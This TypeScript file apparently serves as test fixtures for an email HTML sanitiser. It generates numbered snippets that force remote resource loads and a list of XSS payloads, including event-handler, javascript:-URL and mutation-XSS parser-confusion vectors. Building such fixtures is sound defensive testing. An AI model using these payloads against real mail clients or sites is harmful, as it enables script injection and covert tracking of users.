/** HTML that a mail could carry to load something from elsewhere, or to run. Each has a number, by which the far end knows it. */

/** Ways to load from `far` that Chromium follows when nothing stops it. */
export function remoteLoads(far: string): string[] {
  const ways: ((at: string) => string)[] = [
    (at) => `<img src="${at}">`,
    (at) => `<img srcset="${at} 1x">`,
    (at) => `<picture><source srcset="${at}"><img></picture>`,
    (at) => `<input type="image" src="${at}">`,
    (at) => `<video poster="${at}"></video>`,
    (at) => `<audio src="${at}" autoplay preload="auto"></audio>`,
    (at) => `<body background="${at}">words`,
    (at) => `<table><td background="${at}">words</td></table>`,
    (at) => `<p style="background:url(${at})">words</p>`,
    (at) => `<style>p{background:url("${at}")}</style><p>words</p>`,
    (at) => `<style>@import "${at}";</style>`,
    (at) => `<link rel="stylesheet" href="${at}">`,
    (at) => `<style>@font-face{font-family:f;src:url(${at})}p{font-family:f}</style><p>words</p>`,
    (at) => `<p style="--x:url(${at});background:var(--x)">words</p>`,
    (at) => `<ul style="list-style-image:url(${at})"><li>words</li></ul>`,
    (at) => `<p style='background-image:image-set("${at}" 1x)'>words</p>`,
    (at) => `<p style="background:u\\72l(${at})">words</p>`,
    (at) => `<style>p::before{content:url(${at})}</style><p>words</p>`,
    (at) => `<svg><image href="${at}" width="9" height="9"/></svg>`,
    (at) =>
      `<svg width="9" height="9"><filter id="f"><feImage href="${at}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    (at) => `<iframe src="${at}"></iframe>`,
    (at) => `<object data="${at}"></object><embed src="${at}">`,
    (at) => `<meta http-equiv="refresh" content="0;url=${at}">`,
  ];
  return ways.map((way, number) => way(`${far}/load/${number}`));
}

/** Ways to run `code(number)`; some want a press on what they show. */
export function scripts(code: (number: number) => string): string[] {
  const ways: ((js: string) => string)[] = [
    (js) => `<script>${js}</script>`,
    (js) => `<img src=x onerror="${js}">`,
    (js) => `<svg onload="${js}">`,
    (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
    (js) => `<svg><script>${js}</script></svg>`,
    (js) => `<body onload="${js}">`,
    (js) => `<details open ontoggle="${js}"><summary>s</summary></details>`,
    (js) => `<video><source onerror="${js}"></video>`,
    (js) => `<audio src=x onerror="${js}"></audio>`,
    (js) => `<input autofocus onfocus="${js}">`,
    (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
    (js) => `<iframe src="javascript:${js}"></iframe>`,
    (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
    (js) => `<a href="javascript:${js}">press</a>`,
    (js) => `<a href="java&#10;script:${js}">press</a>`,
    (js) => `<a href=" &#1;javascript:${js}">press</a>`,
    (js) => `<form action="javascript:${js}"><button>press</button></form>`,
    (js) => `<button onclick="${js}">press</button>`,
    (js) => `<p style="animation:a 1s" onanimationstart="${js}">w</p><style>@keyframes a{}</style>`,
    (js) => `<img src='"' onerror="${js}">`,
    (js) => `<<img src=x onerror="${js}">`,
    (js) => `<img/src="x"onerror="${js}">`,
    (js) => `<table><td><p title="</p><img src=x onerror=${js}>">w<img src=x onerror="${js}"></table>`,
    (js) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${js}">`,
    (js) =>
      `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript><img src=x onerror="${js}">`,
    (js) => `<svg></p><style><a title="</style><img src=x onerror='${js}'>"></style></svg>`,
    (js) => `<template><script>${js}</script></template><img src=x onerror="${js}">`,
    (js) => `<xmp><p title="</xmp><img src=x onerror='${js}'>">`,
    (js) => `<!--><img src=x onerror="${js}">-->`,
    (js) => `<div><![CDATA[><img src=x onerror="${js}">]]></div>`,
  ];
  return ways.map((way, number) => way(code(number)));
}
